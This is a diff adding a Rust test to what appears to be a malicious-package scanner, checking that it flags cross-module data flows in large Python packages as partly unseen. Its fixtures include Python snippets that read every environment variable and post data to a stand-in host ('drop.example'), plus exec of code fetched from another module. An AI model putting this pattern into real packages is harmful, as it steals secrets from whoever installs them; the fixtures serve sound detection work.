@@ -211,3 +211,44 @@ fn layers_that_are_too_many_are_said() {
     };
     assert_eq!(why, "more code is decoded, or more often, than is followed");
 }
+
+#[test]
+fn what_passes_between_parts_of_a_large_package_is_told_as_unseen() {
+    let filler = format!("# {}\n", "a".repeat(900_000));
+    let run = |init: &str, first: &str, last: &str| {
+        package(&[
+            ("acme/__init__.py", init),
+            ("acme/a_first.py", first),
+            ("acme/m.py", &filler),
+            ("acme/n.py", &filler),
+            ("acme/o.py", &filler),
+            ("acme/p.py", &filler),
+            ("acme/z_last.py", last),
+        ])
+        .outcome
+    };
+    let send = "import requests\ndef send(x):\n    requests.post('https://drop.example', data=x)\n";
+    let read = "import os\ndef get():\n    return dict(os.environ)\n";
+    let code = "def get():\n    return bytes([112, 97, 115, 115])\n";
+    for (init, first, last) in [
+        (
+            "from . import a_first, z_last\na_first.send(z_last.get())\n",
+            send,
+            read,
+        ),
+        (
+            "from . import a_first, z_last\nz_last.send(a_first.get())\n",
+            read,
+            send,
+        ),
+        ("from .z_last import get\nexec(get())\n", "", code),
+        ("import acme.z_last\nexec(acme.z_last.get())\n", "", code),
+    ] {
+        let Outcome::Partly { why } = run(init, first, last) else {
+            panic!("{init}");
+        };
+        assert!(why.contains("another part of the package"), "{init}: {why}");
+    }
+    let init = "from . import a_first, z_last\nVALUE = z_last.get()\nprint(VALUE)\n";
+    assert_eq!(run(init, send, code), Outcome::Analysed);
+}
